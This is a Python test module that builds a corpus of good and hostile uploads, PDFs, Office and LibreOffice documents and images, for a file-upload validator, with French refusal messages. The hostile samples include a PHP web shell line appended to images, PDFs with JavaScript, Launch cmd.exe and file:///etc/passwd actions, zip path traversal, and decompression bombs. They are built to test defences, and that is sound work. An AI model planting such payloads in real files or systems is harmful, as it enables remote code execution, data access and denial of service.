"""The corpus of uploads: good files of each format, hostile ones built here, so that none is ever stored.

Each `Cas` is a name, a function that makes the bytes, and the verdict: the format when the file is to be
accepted, or words of the sentence that refuses it. `alerte` holds words of the expected warning.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple

import docx
import openpyxl
import pikepdf
from odf.opendocument import OpenDocumentSpreadsheet, OpenDocumentText
from odf.text import P
from PIL import Image

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


class Cas(NamedTuple):
    nom: str
    octets: Callable[[], bytes]
    accepte: str | None = None
    refus: str | None = None
    alerte: str | None = None


def _enregistre(document):
    sortie = io.BytesIO()
    document.save(sortie)
    return sortie.getvalue()


def pdf(pages=1, modifier=None, **options):
    """A PDF of so many blank pages, changed by `modifier(pdf)` before it is written."""
    with pikepdf.new() as document:
        for _ in range(pages):
            document.add_blank_page()
        if modifier:
            modifier(document)
        sortie = io.BytesIO()
        document.save(sortie, **options)
    return sortie.getvalue()


def action(s, **cles):
    """A PDF whose first page carries an action, inline in an annotation."""

    def modifier(document):
        faite = pikepdf.Dictionary(S=pikepdf.Name(s), **cles)
        lien = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=faite
        )
        document.pages[0].Annots = pikepdf.Array([lien])

    return pdf(modifier=modifier)


def pdf_joint():
    def modifier(document):
        document.attachments["paie.csv"] = pikepdf.AttachedFileSpec(document, b"a;b")

    return pdf(modifier=modifier)


def pdf_racine(cle, valeur):
    return pdf(modifier=lambda document: document.Root.__setitem__(cle, valeur))


def pdf_chiffre(user):
    return pdf(encryption=pikepdf.Encryption(owner="maitre", user=user))


def pdf_a_la_main(*objets, xref=None):
    """A PDF written by hand: objects are the bytes between « n 0 obj » and « endobj »."""
    corps, places = bytearray(b"%PDF-1.7\n"), []
    for n, objet in enumerate(objets, 1):
        places.append(len(corps))
        corps += b"%d 0 obj\n%s\nendobj\n" % (n, objet)
    debut = len(corps)
    corps += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objets) + 1)
    corps += b"".join(b"%010d 00000 n \n" % p for p in places)
    corps += b"trailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (len(objets) + 1, xref or debut)
    return bytes(corps)


PAGES = (
    b"<</Type/Catalog/Pages 2 0 R>>",
    b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
)


def pdf_bombe_xref():
    """A cross-reference stream that inflates to 400 MiB: qpdf unpacks it to open the file."""
    plein = zlib.compressobj(9)
    brut = b"".join(plein.compress(bytes(1 << 20)) for _ in range(400)) + plein.flush()
    corps = b"%PDF-1.7\n1 0 obj\n<</Type/XRef/W[1 4 2]/Size 300000000/Root 2 0 R/Filter/FlateDecode/Length "
    corps += b"%d>>\nstream\n" % len(brut) + brut + b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n"
    return corps


def pdf_boucle():
    """A page tree that holds itself."""
    return pdf_a_la_main(PAGES[0], b"<</Type/Pages/Kids[2 0 R]/Count 1>>")


def image(format_, taille=(40, 30), **options):
    sortie = io.BytesIO()
    Image.new("RGB", taille, "navy").save(sortie, format_, **options)
    return sortie.getvalue()


def png_annonce(largeur, hauteur):
    """A PNG of a few bytes that announces immense dimensions."""

    def bloc(nom, octets):
        return struct.pack(">L", len(octets)) + nom + octets + struct.pack(">L", zlib.crc32(nom + octets))

    entete = struct.pack(">LLBBBBB", largeur, hauteur, 8, 2, 0, 0, 0)
    fin = bloc(b"IDAT", zlib.compress(bytes(1000))) + bloc(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + bloc(b"IHDR", entete) + fin


def word():
    document = docx.Document()
    document.add_paragraph("Accord portant rupture conventionnelle collective")
    return _enregistre(document)


def excel():
    classeur = openpyxl.Workbook()
    classeur.active["A1"] = "Effectifs"
    return _enregistre(classeur)


def texte_libre():
    document = OpenDocumentText()
    document.text.addElement(P(text="Procès-verbal du comité"))
    return _enregistre(document)


def classeur_libre():
    return _enregistre(OpenDocumentSpreadsheet())


def archive(*entrees, base=None, methode=zipfile.ZIP_DEFLATED):
    """A zip of (name, bytes), added to `base` when there is one."""
    sortie = io.BytesIO(base or b"")
    with zipfile.ZipFile(sortie, "a" if base else "w", methode) as zip_:
        for nom, octets in entrees:
            zip_.writestr(nom, octets)
    return sortie.getvalue()


def marque_chiffree(octets):
    """The same zip, its first entry flagged as encrypted in both headers."""
    octets = bytearray(octets)
    octets[6] |= 1
    octets[octets.index(b"PK\1\2") + 8] |= 1
    return bytes(octets)


def macros_declarees():
    source = zipfile.ZipFile(io.BytesIO(word()))
    return archive(
        *(
            (n, source.read(n).replace(b"wordprocessingml.document.main", b"x.macroEnabled.main"))
            for n in source.namelist()
        )
    )


def beaucoup(nombre):
    return archive(*((f"word/{n}", b"") for n in range(nombre)), base=word())


def abime(octets):
    """A byte changed in the first entry's data."""
    milieu = 60 + octets[26]
    return octets[:milieu] + bytes([octets[milieu] ^ 0xFF]) + octets[milieu + 1 :]


RELATION = (
    b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://192.0.2.1/m.dotm" TargetMode="External"/></Relationships>'
)
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PHP = b"<?php system($_GET[0]); ?>"
EXE = b"MZ" + bytes(510)
JS = pikepdf.String("app.alert(1)")
MANIFESTE = b"<manifest:manifest><manifest:encryption-data/></manifest:manifest>"
MIME_ODT = b"application/vnd.oasis.opendocument.text"

BONS = [
    Cas("Accord RCC.pdf", pdf, "pdf"),
    Cas("MAJUSCULES.PDF", lambda: pdf(12), "pdf"),
    Cas("linearise.pdf", lambda: pdf(3, linearize=True), "pdf"),
    Cas("objets.pdf", lambda: pdf(300, object_stream_mode=pikepdf.ObjectStreamMode.generate), "pdf"),
    Cas("fin-blanche.pdf", lambda: pdf() + b"\r\n\0\0", "pdf"),
    Cas("table-decalee.pdf", lambda: pdf_a_la_main(*PAGES, xref=7), "pdf"),
    Cas("impression-interdite.pdf", lambda: pdf_chiffre(""), "pdf"),
    Cas("courrier.docx", word, "docx"),
    Cas("paie.xlsx", excel, "xlsx"),
    Cas("pv.odt", texte_libre, "odt"),
    Cas("effectifs.ods", classeur_libre, "ods"),
    Cas("scan.png", lambda: image("PNG"), "png"),
    Cas("photo.jpg", lambda: image("JPEG"), "jpeg"),
    Cas("progressive.jpeg", lambda: image("JPEG", progressive=True), "jpeg"),
    Cas("grise.jpeg", lambda: image("JPEG", (4000, 3000)), "jpeg"),
    Cas(
        "double.jpg",
        lambda: image("MPO", save_all=True, append_images=[Image.new("RGB", (8, 8))]),
        "jpeg",
    ),
    Cas("samsung.jpg", lambda: image("JPEG") + b"\0\0\1\x0a\x0eImage_UTC_DataSEFH\x6b\0\0\0SEFT", "jpeg"),
]
ACTIFS = [
    Cas("js.pdf", lambda: action("/JavaScript", JS=JS), "pdf", alerte="JavaScript"),
    Cas("js-echappe.pdf", lambda: action("/JavaScript", JS=JS).replace(b"/JS ", b"/J#53 ").replace(
        b"/JavaScript", b"/J#61vaScript"), "pdf", alerte="JavaScript"),
    Cas("lance.pdf", lambda: action("/Launch", F=pikepdf.String("cmd.exe")), "pdf", alerte="lancer un programme"),
    Cas("envoie.pdf", lambda: action("/SubmitForm"), "pdf", alerte="envoyer"),
    Cas("local.pdf", lambda: action("/URI", URI=pikepdf.String("file:///etc/passwd")), "pdf", alerte="ordinateur"),
    Cas("joint.pdf", pdf_joint, "pdf", alerte="fichiers joints"),
    Cas("xfa.pdf", lambda: pdf_racine("/AcroForm", pikepdf.Dictionary(XFA=pikepdf.String("x"))), "pdf", alerte="XFA"),
    Cas("ouverture.pdf", lambda: pdf_racine("/OpenAction", pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=JS)),
        "pdf", alerte="à l’ouverture"),
    Cas("film.pdf", lambda: pdf_a_la_main(*PAGES, b"<</Subtype/RichMedia>>"), "pdf", alerte="multimédia"),
    Cas("modele.docx", lambda: archive(("word/_rels/settings.xml.rels", RELATION), base=word()), "docx",
        alerte="adresse extérieure"),
    Cas("objet.docx", lambda: archive(("word/embeddings/oleObject1.bin", OLE), base=word()), "docx",
        alerte="objets incorporés"),
]  # fmt: skip
HOSTILES = [
    Cas("vide.pdf", bytes, refus="vide"),
    Cas("programme.exe", lambda: EXE, refus="Le format .exe"),
    Cas("programme.pdf", lambda: EXE, refus="un fichier exe"),
    Cas("page.pdf", lambda: HTML, refus="page web"),
    Cas("dessin.png", lambda: SVG, refus="page web ou un dessin SVG"),
    Cas("dessin.svg", lambda: SVG, refus="Le format .svg"),
    Cas("macros.docm", word, refus="macros (.docm)"),
    Cas("macros.xlsm", excel, refus="macros (.xlsm)"),
    Cas("macros.docx", lambda: archive(("word/vbaProject.bin", OLE), base=word()), refus="contient des macros"),
    Cas("macros.xlsx", lambda: archive(("xl/vbaProject.bin", OLE), base=excel()), refus="contient des macros"),
    Cas("macros2.docx", macros_declarees, refus="contient des macros"),
    Cas("macros.odt", lambda: archive(("Basic/script-lc.xml", b"<x/>"), base=texte_libre()), refus="des macros"),
    Cas("lettre.rtf", lambda: b"{\\rtf1 a}", refus=".docx ou en PDF"),
    Cas("lettre.docx", lambda: b"{\\rtf1 a}", refus="un fichier rtf"),
    Cas("lettre.doc", lambda: OLE, refus="Le format .doc"),
    Cas("ancien.docx", lambda: OLE, refus="ancien document Office"),
    Cas("chiffre.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le"), refus="mot de passe"),
    Cas("chiffre2.docx", lambda: marque_chiffree(word()), refus="mot de passe"),
    Cas("chiffre.odt", lambda: archive(("mimetype", MIME_ODT), ("content.xml", b"?"),
        ("META-INF/manifest.xml", MANIFESTE)), refus="mot de passe"),
    Cas("chiffre.pdf", lambda: pdf_chiffre("secret"), refus="mot de passe"),
    Cas("sans-page.pdf", lambda: pdf(0), refus="aucune page"),
    Cas("coupe.pdf", lambda: pdf()[:-40], refus="incomplet"),
    Cas("bruit.pdf", lambda: b"%PDF-1.7\n" + b"\x9c" * 500 + b"startxref\n0\n%%EOF", refus="endommagé"),
    Cas("tete.pdf", lambda: b"\r\n" + pdf(), refus="commence par des données étrangères"),
    Cas("zip-apres.pdf", lambda: pdf() + word(), refus="données étrangères"),
    Cas("zip-cache.pdf", lambda: pdf() + word()[:-2] + b"\x0f\0startxref %%EOF", refus="aussi une archive"),
    Cas("html-apres.pdf", lambda: pdf(9) + HTML, refus="données étrangères"),
    Cas("html-avant.pdf", lambda: pdf().replace(b"\n", b"\n%" + HTML + b"\n", 1), refus="un autre document"),
    Cas("boucle.pdf", pdf_boucle, refus="PDF"),
    Cas("bombe-xref.pdf", pdf_bombe_xref, refus="PDF"),
    Cas("imbrique.pdf", lambda: pdf_a_la_main(b"<</Type/Catalog/Pages " + b"[" * 10**6), refus="PDF"),
    Cas("coupee.png", lambda: image("PNG")[:-20], refus="incomplète"),
    Cas("fausse.png", lambda: abime(image("PNG")), refus="ne s’ouvre pas"),
    Cas("suivie.png", lambda: image("PNG") + PHP, refus="un autre document"),
    Cas("suivie2.png", lambda: image("PNG") + word(), refus="données étrangères"),
    Cas("immense.png", lambda: png_annonce(50_000, 50_000), refus="50\u00a0millions de pixels"),
    Cas("php.jpg", lambda: image("JPEG") + PHP, refus="un autre document"),
    Cas("php-dedans.jpg", lambda: image("JPEG", comment=PHP), refus="un autre document"),
    Cas("suivie.jpg", lambda: image("JPEG") + b"MZ", refus="données étrangères"),
    Cas("coupee.jpg", lambda: image("JPEG", (400, 300))[:-50], refus="incomplète"),
    Cas("animation.jpg", lambda: image("GIF") + b";alert(1)", refus="un fichier gif"),
    Cas("pdf.jpg", lambda: image("JPEG", comment=pdf()), refus="un autre document"),
    Cas("echange.docx", excel, refus="n’est pas un document Word"),
    Cas("echange.xlsx", word, refus="n’est pas un classeur Excel"),
    Cas("echange.odt", classeur_libre, refus="n’est pas un document LibreOffice"),
    Cas("echange.ods", word, refus="n’est pas un classeur LibreOffice"),
    Cas("archive.docx", lambda: archive(("a.txt", b"a")), refus="n’est pas un document Word"),
    Cas("pdf-devant.docx", lambda: pdf() + word(), refus="un fichier pdf"),
    Cas("pdf-dedans.docx", lambda: archive(("a.xml", pdf()), methode=zipfile.ZIP_STORED), refus="un autre document"),
    Cas("suivi.docx", lambda: word() + b"MZ", refus="endommagé"),
    Cas("coupe.docx", lambda: word()[:-200], refus="endommagé"),
    Cas("abime.docx", lambda: abime(word()), refus="endommagé"),
    Cas("lzma.docx", lambda: archive(("word/a", b"a"), methode=zipfile.ZIP_LZMA), refus="endommagé"),
    Cas("sortie.docx", lambda: archive(("word/../../a", b"a"), base=word()), refus="endommagé"),
    Cas("programme.docx", lambda: archive(("word/a.exe", EXE), base=word()), refus="un programme ou une archive"),
    Cas("niche.docx", lambda: archive(("word/a.zip", word()), base=word()), refus="un programme ou une archive"),
    Cas("rapport.docx", lambda: archive(("word/a", bytes(50 << 20)), base=word()), refus="décompressé"),
    Cas("entrees.xlsx", lambda: beaucoup(1001), refus="décompressé"),
    Cas("nuee.docx", lambda: beaucoup(40_000), refus="décompressé"),
]  # fmt: skip
TOUS = BONS + ACTIFS + HOSTILES
